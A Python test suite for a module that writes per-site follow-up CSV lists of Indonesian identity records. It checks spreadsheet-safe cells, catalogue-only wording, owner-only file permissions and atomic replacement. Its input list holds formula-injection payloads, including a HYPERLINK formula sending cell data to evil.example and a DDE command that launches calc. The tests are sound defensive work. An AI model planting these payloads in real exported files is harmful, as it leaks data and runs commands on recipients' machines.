"""The site lists without a warehouse: every cell spreadsheet-safe, words from the catalogue, files owner-only and
replaced whole, a file rejected whole given to its site by its name."""

from __future__ import annotations

import csv
import shutil
import stat
import uuid
from pathlib import Path

import pytest
from ektp.core.texts import texts
from ektp.outputs import followup, site_lists
from ektp.outputs.followup import FORMULA_TRIGGERS, site_file_name
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.unit.outputs.test_followup import _HOSTILE_CODES

_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
             "=cmd|' /C calc'!A0", "\uff1d1+1", "-1"]
_TEXT = st.one_of(st.text(), st.sampled_from(_FORMULAS), st.sampled_from(FORMULA_TRIGGERS).map(lambda c: c + "1+1"))
EN = texts("en")


def _row(kind: str = "redo", **values) -> dict:
    base = {"kind": kind, "report_date": "2027-01-11", "site_code": "SMA-1", "site_name": "SMA 1",
            "file_path": "batches/2027-01-11/SMA-1.csv", "row_number": 1, "line_number": 2, "batch_id": "B1",
            "recorded_at": "2027-01-11T09:00:00+07:00", "operator_id": "OP", "nik": "3174022308900001",
            "full_name": "Budi", "birth_date": "1990-08-23", "sex": "L", "kelurahan_code": "31.74.01.1001",
            "reason_code": "bad_sex", "captured_text": None, "suggestions": None}
    return {**base, **values}


def _read_cells(folder: Path) -> dict[str, list[list[str]]]:
    out = {}
    for f in sorted(folder.iterdir()):
        with f.open(encoding=followup.CSV_ENCODING, newline="") as fh:
            out[f.name] = list(csv.reader(fh))
    return out


@given(site=_TEXT, name=_TEXT, who=_TEXT, batch=_TEXT, captured=_TEXT, nik=_TEXT)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_cell_of_a_written_list_starts_a_formula(tmp_path, site, name, who, batch, captured, nik):
    """Device text in every free-text column, through the real writer, read back as a spreadsheet reads CSV."""
    values = {"site_code": site, "site_name": name, "operator_id": who, "batch_id": batch, "nik": nik,
              "full_name": name, "kelurahan_code": captured, "recorded_at": captured, "birth_date": captured,
              "sex": who, "file_path": f"batches/2027-01-11/{name}.csv"}
    suggestion = {"nik": nik, "full_name": name, "birth_date": captured, "sex": who, "kelurahan_code": captured,
                  "score": 80.0}
    rows = [_row(**values, captured_text=captured),
            _row("identity_mismatch", **values, reason_code="identity_mismatch", siak_full_name=name,
                 siak_birth_date=captured, siak_sex=who),
            _row("not_in_extract", **values, reason_code="not_in_extract", suggestions=[suggestion, suggestion]),
            _row("resend_file", site_code=site, site_name=name, file_path=values["file_path"], row_number=0,
                 reason_code="missing_column")]
    folder = tmp_path / f"followup-{uuid.uuid4().hex}" / "2027-01-11"
    site_lists.write_site_lists(folder, {"sites": [site], "rows": rows}, EN)
    (cells,) = _read_cells(folder).values()
    assert len(cells) == 5 and cells[0] == [t for _, t in site_lists.COLUMNS]
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    redo = dict(zip(cells[0], cells[1], strict=True))
    for column, value in {"Site code": site, "Site name": name, "Operator": who, "Batch": batch, "Name": name,
                          "NIK as recorded": nik}.items():  # the value is all there, behind the mark
        assert redo[column] in (value, "'" + value), column
    shutil.rmtree(folder.parent)


def test_every_word_of_a_list_comes_from_the_catalogue():
    """Rendered in the pseudo-language, every cell that is not data is marked ⟦…⟧: no English left in code."""
    qps = texts("qps")
    suggestion = {"nik": "3174022308900002", "full_name": "Budi S", "birth_date": "1990-08-23", "sex": "L",
                  "kelurahan_code": "31.74.01.1001", "score": 91.5}
    rows = [_row(captured_text="a,b"), _row(reason_code="nik_format", suggestions=[]),
            _row("identity_mismatch", reason_code="identity_mismatch"),
            _row("not_in_extract", reason_code="not_in_extract", suggestions=[suggestion]),
            _row("resend_file", reason_code="not_utf8", row_number=0)]
    assert all(t.startswith("⟦") and t.endswith("⟧") for t in site_lists.header(qps))
    for row in rows:
        cells = site_lists.render(row, qps)
        for key in ("item", "reason"):
            assert cells[key].startswith("⟦") and cells[key].endswith("⟧"), (row["kind"], key, cells[key])
        assert cells["instruction"].startswith("⟦"), cells["instruction"]
    no_match = site_lists.render(rows[1], qps)["suggestion"]
    assert no_match == "⟦tidak ada kecocokan: minta KTP/KK⟧"
    found = site_lists.render(rows[3], texts("id"))
    assert (found["suggestion_nik"], found["suggestion_score"]) == ("3174022308900002", "91,5")
    assert found["suggestion"] == "3174022308900002 Budi S, 1990-08-23, L, Tebet Timur"
    assert (found["kelurahan_name"], found["kecamatan_code"], found["kecamatan_name"]) == (
        "Tebet Timur", "31.74.01", "Tebet")


def test_a_file_rejected_whole_goes_to_the_site_its_name_begins_with():
    known = [("RW12-TEBET", "Balai RW 12"), ("RW12-TEBET-TIMUR", "Balai RW 12 Tebet Timur"), ("SMA-1", None)]
    assert site_lists.file_site("batches/2026-11-02/RW12-TEBET-TIMUR_TAB01.csv", known) == (
        "RW12-TEBET-TIMUR", "Balai RW 12 Tebet Timur")  # the longest code
    assert site_lists.file_site("batches/2026-11-02/rw12-tebet.CSV", known) == ("RW12-TEBET", "Balai RW 12")
    assert site_lists.file_site("batches/2026-11-02/SMA-10_tab.csv", known) == ("", None)  # SMA-1 is not SMA-10
    assert site_lists.file_site("batches/2026-11-02/upload.csv", known) == ("", None)


def _lists(sites: list[str]) -> dict:
    return {"sites": sites, "rows": [_row(site_code=s) for s in sites]}


def test_lists_of_hostile_site_codes_are_written_owner_only(tmp_path, umask_0):
    folder = tmp_path / "reports" / "followup" / "2027-01-11"
    written = site_lists.write_site_lists(folder, _lists(_HOSTILE_CODES), EN)
    assert sorted(p.name for p in written) == sorted(p.name for p in folder.iterdir())
    assert len(written) == len(set(_HOSTILE_CODES))
    site_column = [t for _, t in site_lists.COLUMNS].index("Site code")
    for path in written:
        (_, row) = _read_cells(folder)[path.name][:2]
        assert site_file_name(row[site_column].removeprefix("'")) == path.name  # each site's rows in its own file
    for path in [tmp_path / "reports", folder.parent, folder, *written]:
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]  # no .tmp, no .old

    site_lists.write_site_lists(folder, _lists(["ONLY-ONE"]), EN)  # a republished date replaces the whole folder
    assert [p.name for p in folder.iterdir()] == ["ONLY-ONE.csv"]
    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]


_REAL_WRITER = csv.writer


class _FailingWriter:
    rows = 0

    def __init__(self, fh, **kwargs):
        self._writer = _REAL_WRITER(fh, **kwargs)

    def writerow(self, row):
        type(self).rows += 1
        if type(self).rows > 3:
            raise OSError(28, "No space left on device")
        return self._writer.writerow(row)


def test_a_failed_write_leaves_no_folder_with_niks_and_keeps_the_last_lists(tmp_path, monkeypatch):
    folder = tmp_path / "followup" / "2027-01-11"
    site_lists.write_site_lists(folder, _lists(["A", "B"]), EN)
    before = _read_cells(folder)
    monkeypatch.setattr(site_lists.csv, "writer", _FailingWriter)  # the disk fills up half way
    with pytest.raises(OSError, match="No space"):
        site_lists.write_site_lists(folder, _lists(["A", "B", "C", "D"]), EN)
    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]
    assert _read_cells(folder) == before
